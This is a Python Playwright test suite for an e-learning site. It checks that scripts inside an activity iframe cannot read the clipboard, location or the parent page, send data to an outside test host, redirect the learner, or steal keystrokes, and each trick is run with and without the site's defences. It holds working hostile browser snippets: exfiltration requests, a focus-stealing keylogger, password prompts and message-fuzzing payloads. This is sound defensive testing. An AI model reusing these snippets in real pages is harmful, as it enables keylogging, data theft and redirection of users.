"""What any script in an activity's frame may try, by hand: each works without our defences, where
that can be shown, and gives nothing in a lesson. The page around stays the learner's."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Frame, Page, expect

from tests.h5p import kinds

NEUTRAL = "A page about the weather"
ALLOWED = ["clipboard-read", "clipboard-write", "geolocation", "notifications"]
# Each gives "got …" where it succeeds.
TRICKS = {
    "keys typed around it": """() => {
        parent.addEventListener("keydown", () => {}); return "got keys"; }""",
    "the page around it": "() => 'got ' + parent.document.body.innerText.length",
    "a service worker": """async () => {
        await navigator.serviceWorker.register("/worker.js"); return "got it"; }""",
    "a shared worker": "() => { new SharedWorker('/hostile.js'); return 'got it'; }",
    "a database": """() => new Promise((done, not) => {
        const asked = indexedDB.open("x");
        asked.onsuccess = () => done("got it"); asked.onerror = () => not(asked.error); })""",
    "a cache": "async () => { await caches.open('x'); return 'got it'; }",
    "private files": "async () => { await navigator.storage.getDirectory(); return 'got it'; }",
    "the clipboard": """async () => {
        window.focus(); return "got " + await navigator.clipboard.readText(); }""",
    "the clipboard to write in": """async () => {
        window.focus(); await navigator.clipboard.writeText("x"); return "got it"; }""",
    "where the learner is": """() => new Promise((done, not) =>
        navigator.geolocation.getCurrentPosition(() => done("got it"), not))""",
    "messages to the learner": """() =>
        Notification.permission === "granted" ? "got it" : "refused" """,
    "cookies of its own": """() => {
        const { get, set } = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
        set.call(document, "mark=1"); return "got " + get.call(document); }""",
    "a lock": "async () => { await navigator.locks.request('x', () => 0); return 'got it'; }",
    "a question that blocks": "() => { confirm('Password?'); return 'asked'; }",
    "a text that blocks": "() => { prompt('Password?'); return 'asked'; }",
    "a download": """() => {
        const link = document.createElement("a");
        link.href = "data:text/plain,x"; link.download = "x.exe";
        document.body.append(link); link.click(); return "asked"; }""",
    "a window": "() => window.open('about:blank') ? 'got one' : 'refused'",
    "a link to a window": """() => {
        const link = document.createElement("a");
        link.href = "about:blank"; link.target = "_blank";
        document.body.append(link); link.click(); return "asked"; }""",
    "all features": """() => {
        const policy = document.featurePolicy;
        const may = ["autoplay", "camera", "microphone", "geolocation", "display-capture", "midi",
          "clipboard-read", "payment", "usb", "screen-wake-lock", "local-fonts"];
        const has = may.filter((name) => policy.allowsFeature(name));
        return has.length ? "got " + has : "refused"; }""",
}
# Each asks for an address at the host outside.
SENDS = {
    "xhr": "to => { const x = new XMLHttpRequest(); x.open('POST', to); x.send('secret'); }",
    "keepalive": "to => { fetch(to, {mode: 'no-cors', keepalive: true}).catch(() => 0); }",
    "module": "to => { import(to).catch(() => 0); }",
    "preload": """to => { const link = document.createElement('link');
        Object.assign(link, {rel: 'preload', as: 'image', href: to});
        document.head.append(link); }""",
    "data-frame": """to => { const frame = document.createElement('iframe');
        frame.src = 'data:text/html,' + encodeURIComponent(`<img src="${to}">`);
        document.body.append(frame); }""",
    "blob-frame": """to => { const frame = document.createElement('iframe');
        const page = new Blob([`<img src="${to}">`], {type: 'text/html'});
        frame.src = URL.createObjectURL(page); document.body.append(frame); }""",
    "srcset": "to => { const made = new Image(); made.srcset = to + ' 1x'; }",
    "svg": """to => { document.body.insertAdjacentHTML('beforeend',
        `<svg><image href="${to}"/></svg>`); }""",
    "track": """to => { document.body.insertAdjacentHTML('beforeend',
        `<audio src="${to}"></audio>`); document.querySelector('audio:last-child').load(); }""",
    "inner-policy": """to => { const frame = document.createElement('iframe');
        document.body.append(frame);
        frame.contentDocument.write(`<img src="${to}">`); }""",
}  # fmt: skip
MOVES = {
    "top": "to => { top.location = to; }",
    "parent": "to => { parent.location.replace(to); }",
    "top-link": """to => { document.body.insertAdjacentHTML('beforeend',
        `<a id=a target=_top href="${to}">Next</a>`); document.getElementById('a').click(); }""",
    "top-form": """to => { document.body.insertAdjacentHTML('beforeend',
        `<form id=f target=_top action="${to}"></form>`);
        document.getElementById('f').submit(); }""",
    "link": """to => { document.body.insertAdjacentHTML('beforeend',
        `<a id=a href="${to}">Next</a>`); document.getElementById('a').click(); }""",
    "form": """to => { document.body.insertAdjacentHTML('beforeend',
        `<form id=f method=post action="${to}"></form>`);
        document.getElementById('f').submit(); }""",
    "assign": "to => { location.assign(to); }",
}


@pytest.fixture(scope="module")
def outside(outside_host: Any) -> Iterator[Any]:
    with outside_host() as server:
        yield server


@pytest.fixture(scope="module")
def lessons(site: Any, shown: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
    names = ["tricks", "sends", "moves", "own", "snatch", "full", "inner", "history", "fuzz", "odd"]
    packages = {name: kinds.question_set() for name in names}
    packages["deaf"] = kinds.hostile("deaf")
    return shown.show(site, tmp_path_factory.mktemp("packages"), packages)


@pytest.fixture
def bare(browser: Browser, outside: Any) -> Iterator[Page]:
    """A page whose frame has none of our defences."""
    context = browser.new_context(permissions=ALLOWED, geolocation={"latitude": 1, "longitude": 1})
    page = context.new_page()
    page.goto(f"{outside.url}/bare")
    outside.arrived.clear()
    yield page
    context.close()


@pytest.fixture
def lesson(lessons: Any, browser: Browser, shown: Any, request: Any) -> Iterator[Page]:
    """The lesson whose name the test gives, with its activity playing."""
    place = lessons[request.param]
    context: BrowserContext = place.context(browser)
    context.grant_permissions(ALLOWED)
    context.set_geolocation({"latitude": 1, "longitude": 1})
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.faults = []  # type: ignore[attr-defined]
    page.on("pageerror", lambda error: page.faults.append(str(error)))  # type: ignore[attr-defined]
    place.open(page)
    shown.wait_for(page)
    yield page
    context.close()


def inside(page: Page) -> Frame:
    return page.frames[1]


def tried(page: Page, code: str) -> str:
    """What a script in the frame gets by it."""
    try:
        return str(inside(page).evaluate(code))
    except Error as error:
        return f"refused: {error.message[:80]}"


def played_on(page: Page) -> tuple[dict[str, str], list[str]]:
    """What each trick gives, and what the browser was brought to show."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append("dialog"), dialog.dismiss()))
    page.on("download", lambda download: seen.append("download"))
    page.context.on("page", lambda opened: seen.append("window"))
    found = {}
    for name, code in TRICKS.items():
        found[name] = tried(page, code)
    page.wait_for_timeout(1500)
    return found, seen


def test_tricks_work_without_our_defences(bare: Page) -> None:
    found, seen = played_on(bare)
    for name, result in found.items():
        assert result.startswith(("got", "asked")), (name, result)
    assert seen.count("dialog") == 2
    assert seen.count("download") == 1
    assert seen.count("window") == 2


@pytest.mark.parametrize("lesson", ["tricks"], indirect=True)
def test_tricks_give_nothing_in_a_lesson(lesson: Page) -> None:
    found, seen = played_on(lesson)
    for name, result in found.items():
        assert not result.startswith("got") or result == "got ", (name, result)
    assert seen == []
    usable(lesson)


def sent(page: Page, outside: Any) -> set[str]:
    for name, code in SENDS.items():
        with contextlib.suppress(Error):
            inside(page).evaluate(f"(to) => {{ ({code})(to); }}", f"{outside.url}/got/{name}")
    page.wait_for_timeout(2000)
    return set(outside.arrived)


def test_words_get_out_without_our_defences(bare: Page, outside: Any) -> None:
    assert sent(bare, outside) >= set(SENDS)


@pytest.mark.parametrize("lesson", ["sends"], indirect=True)
def test_no_word_gets_out_of_a_lesson(lesson: Page, outside: Any) -> None:
    outside.arrived.clear()
    assert sent(lesson, outside) == set()


@pytest.mark.parametrize("move", MOVES)
def test_it_leads_away_without_our_defences(move: str, bare: Page, outside: Any) -> None:
    inside(bare).evaluate(MOVES[move], f"{outside.url}/got/{move}")
    bare.wait_for_timeout(1000)
    assert [each.rstrip("?") for each in outside.arrived] == [move]


@pytest.mark.parametrize("lesson", ["moves"], indirect=True)
def test_it_leads_nobody_away_from_a_lesson(lesson: Page, outside: Any, shown: Any) -> None:
    outside.arrived.clear()
    before = lesson.url
    for move, code in MOVES.items():
        with contextlib.suppress(Error):
            inside(lesson).evaluate(code, f"{outside.url}/got/{move}")
        lesson.wait_for_timeout(700)
        assert outside.arrived == [], move
        assert lesson.url == before
        lesson.reload()
        shown.wait_for(lesson)
    usable(lesson)


@pytest.mark.parametrize("lesson", ["own"], indirect=True)
def test_our_own_pages_in_its_frame_know_nobody(lesson: Page, site: Any, shown: Any) -> None:
    """A frame may be led to a page of this site: without the learner's session."""
    for path in ("/exit/", "/accounts/profile/", "/accounts/logout/", "/learning/"):
        with contextlib.suppress(Error):
            inside(lesson).evaluate("to => { location.href = to; }", f"{site.url}{path}")
        lesson.wait_for_timeout(800)
        for frame in lesson.frames[1:]:
            with contextlib.suppress(Error):
                assert "example.org" not in frame.locator("body").inner_text(timeout=2000)
        lesson.reload()
        # Neither veiled nor signed out.
        shown.wait_for(lesson)


# The keyboard and the way out


def exits(page: Page) -> None:
    for _time in range(3):
        page.keyboard.press("Shift")
    expect(page.locator("h1")).to_have_text(NEUTRAL, timeout=10_000)


def usable(page: Page) -> None:
    """Break, the way forward and exit are where they were, and not covered."""
    expect(page.get_by_text("Take a break").first).to_be_visible()
    expect(page.locator("main [rel~=next], main form").first).to_be_attached()
    for place in (0, 0.5, 1):
        page.evaluate("to => scrollTo(0, to * document.body.scrollHeight)", place)
        on_top = page.evaluate("""() => {
            const link = [...document.querySelectorAll("[data-exit]")].at(-1);
            const { x, y, width, height } = link.getBoundingClientRect();
            return link.contains(document.elementFromPoint(x + width / 2, y + height / 2)); }""")
        assert on_top, place
    assert page.faults == []  # type: ignore[attr-defined]


def test_a_deaf_library_keeps_keys_from_whoever_listens_later(bare: Page) -> None:
    inside(bare).evaluate("""() => {
        addEventListener("keydown", (event) => event.stopImmediatePropagation(), true);
        window.heard = 0;
        addEventListener("keydown", () => (window.heard += 1), true); }""")
    inside(bare).evaluate("() => { document.body.tabIndex = 0; document.body.focus(); }")
    bare.keyboard.press("Shift")
    assert inside(bare).evaluate("window.heard") == 0


@pytest.mark.parametrize("lesson", ["deaf"], indirect=True)
def test_the_exit_s_keys_are_heard_before_a_deaf_library(lesson: Page) -> None:
    inside(lesson).locator("body").click()
    assert lesson.evaluate("document.activeElement.tagName") == "IFRAME"
    exits(lesson)


@pytest.mark.parametrize("lesson", ["full"], indirect=True)
def test_the_exit_s_keys_work_while_it_fills_the_screen(lesson: Page) -> None:
    inside(lesson).evaluate("() => document.documentElement.requestFullscreen()")
    lesson.wait_for_function("document.fullscreenElement?.tagName === 'IFRAME'")
    inside(lesson).locator("body").click()
    exits(lesson)
    assert lesson.evaluate("document.fullscreenElement") is None


@pytest.mark.parametrize("lesson", ["inner"], indirect=True)
def test_the_exit_s_keys_work_in_a_frame_within_it(lesson: Page) -> None:
    inside(lesson).evaluate("""() => {
        const frame = document.createElement("iframe");
        frame.srcdoc = "<input autofocus>";
        document.body.prepend(frame);
        frame.addEventListener("load", () => frame.focus()); }""")
    answer = inside(lesson).get_by_role("button", name="Listening").first
    answer.focus()
    inside(lesson).evaluate("() => document.querySelector('iframe').focus()")
    expect(answer).to_be_focused()
    exits(lesson)


SNATCH = """() => {
    document.body.insertAdjacentHTML("beforeend", "<input id=snatch>");
    window.read = "";
    addEventListener("keydown", (event) => (window.read += event.key));
    setInterval(() => document.getElementById("snatch").focus(), 50); }"""
WORDS = "what only the page around may know"


def typed(page: Page) -> str:
    """Typed by somebody into a field of the page around; what has arrived there."""
    page.evaluate("""() => {
        document.querySelector("h1").insertAdjacentHTML("afterend", "<input id=mine>"); }""")
    page.locator("#mine").click()
    for letter in WORDS:
        page.keyboard.press(letter)
        page.wait_for_timeout(40)
    return str(page.locator("#mine").input_value())


def test_a_frame_snatches_what_is_typed_without_our_defences(bare: Page) -> None:
    inside(bare).evaluate(SNATCH)
    assert len(typed(bare)) < 10
    assert len(inside(bare).evaluate("window.read")) > 20


@pytest.mark.parametrize("lesson", ["snatch"], indirect=True)
def test_what_is_typed_in_a_lesson_stays_there(lesson: Page) -> None:
    inside(lesson).evaluate(SNATCH)
    assert len(typed(lesson)) > len(WORDS) - 10
    # It was taken away, as one that does what nobody's activity does.
    expect(lesson.locator("[data-activity] iframe")).to_have_count(0)
    lesson.locator("#mine").fill("")
    lesson.locator("#mine").press_sequentially(WORDS)
    assert lesson.locator("#mine").input_value() == WORDS
    usable(lesson)


@pytest.mark.parametrize("lesson", ["odd"], indirect=True)
def test_who_goes_from_a_field_into_it_gets_there(lesson: Page) -> None:
    """By Tab, and by pointing there."""
    lesson.evaluate("""() => document.querySelector("[data-activity]")
        .insertAdjacentHTML("beforebegin", "<input id=mine>")""")
    answer = lesson.frame_locator("[data-activity] iframe").get_by_role("button").first
    for _turn in range(2):
        lesson.locator("#mine").click()
        lesson.keyboard.type("abc")
        answer.click()
        assert lesson.evaluate("document.activeElement.tagName") == "IFRAME"
    lesson.locator("#mine").click()
    lesson.keyboard.type("abc")
    for _turn in range(5):
        lesson.keyboard.press("Tab")
        if lesson.evaluate("document.activeElement.tagName") == "IFRAME":
            break
    lesson.wait_for_timeout(500)
    assert lesson.evaluate("document.activeElement.tagName") == "IFRAME"


@pytest.mark.parametrize("lesson", ["history"], indirect=True)
def test_a_crowded_history_hides_no_way_out(lesson: Page) -> None:
    inside(lesson).evaluate("""() => {
        for (let i = 0; i < 150; i += 1) {
          try { history.pushState({}, "", "#" + i); } catch { break; }
        }
        for (let i = 0; i < 20; i += 1) location.hash = "x" + i;
        history.back(); history.go(-3); window.name = "secret".repeat(1000); }""")
    lesson.wait_for_timeout(500)
    usable(lesson)
    lesson.get_by_role("link", name="Exit this page").last.click()
    expect(lesson.locator("h1")).to_have_text(NEUTRAL)
    for _turn in range(5):
        with contextlib.suppress(Error):
            lesson.go_back(timeout=3000)
        assert "What helps" not in lesson.locator("body").inner_text()


# Messages

FUZZ = """(seed) => {
    let state = seed;
    const chance = (most) => {
      state = (state * 1103515245 + 12345) % 2147483648; return state % most; };
    const kinds = ["hello", "playing", "here", "height", "key", "broken", "state", "statement",
      "start", "exit", "__proto__", "constructor", "", null, 7, {}, []];
    const round = {}; round.round = round;
    let shared = ["x"]; for (let i = 0; i < 60; i += 1) shared = [shared, shared];
    const sparse = []; sparse.length = 4294967295;
    const odd = () => [
      null, undefined, true, NaN, Infinity, -Infinity, -1, 0, 1e308, 12345678901234567890n, "",
      "x".repeat(chance(200000)), "0/state", "../../x", '{"verb":{}}', "[".repeat(30000),
      {}, [], round, shared, sparse, new Map([[1, 2]]), new Date(NaN), new ArrayBuffer(100000),
      new Uint8Array(9), /x/, new Error("x"), new Blob(["x"]),
      JSON.parse('{"__proto__": {"x": 1}}'),
      JSON.parse('{"toString": 1, "slice": 2, "length": 1e9}'),
    ][chance(30)];
    for (let i = 0; i < 2000; i += 1) {
      let message = odd();
      if (chance(10)) {
        message = { waymark: kinds[chance(kinds.length)] };
        for (const name of ["state", "key", "data", "statement", "height", "why", "type", "shift",
          "repeat", "__proto__", "ticket", "token"]) {
          if (chance(2)) Object.defineProperty(message, name, { value: odd(), enumerable: true });
        }
      }
      const ports = chance(20) ? [] : [new MessageChannel().port1];
      try { parent.postMessage(message, "*", ports); } catch { parent.postMessage(i, "*"); }
    } }"""


@pytest.mark.parametrize("lesson", ["fuzz"], indirect=True)
def test_no_message_harms_the_page_around(lesson: Page, site: Any) -> None:
    posts: list[str] = []
    away: list[str] = []

    def watch(request: Any) -> None:
        if request.method == "POST":
            posts.append(request.url)
        if not request.url.startswith((site.url, "data:", "blob:", "about:")):
            away.append(request.url)

    lesson.on("request", watch)
    before = lesson.url
    for seed in (1, 2, 3):
        inside(lesson).evaluate(FUZZ, seed)
        # The page around answers at once, whatever is on its way.
        lesson.evaluate("new Promise((done) => setTimeout(done, 0))")
        lesson.wait_for_timeout(10_500)
        # From elsewhere than the frame: another frame, the page itself, and nowhere.
        lesson.evaluate("""() => {
            const data = { waymark: "statement", statement: '{"verb":{}}' };
            for (const source of [null, window]) {
              dispatchEvent(new MessageEvent("message", { data, source, origin: location.origin }));
            }
            postMessage({ waymark: "broken", why: "x" }, "*"); }""")
        with contextlib.suppress(Error):
            inside(lesson).evaluate("""() => {
                const frame = document.createElement("iframe"); document.body.append(frame);
                const forged = 'parent.parent.postMessage({waymark: "height", height: 19999}, "*")';
                frame.contentWindow.eval(forged);
                frame.remove(); }""")
        frame = lesson.locator("[data-activity] iframe")
        if not frame.count():
            break
        assert frame.bounding_box()["height"] <= 20_000
    assert ({}).get("x") is lesson.evaluate("() => ({}).x ?? null")
    # Forty in ten seconds go on, over three rounds and their tries at once more.
    assert len(posts) <= 200, len(posts)
    assert all("/activities/" in each for each in posts)
    assert away == []
    assert lesson.url == before
    usable(lesson)
    lesson.get_by_role("link", name="Exit this page").last.click()
    expect(lesson.locator("h1")).to_have_text(NEUTRAL)
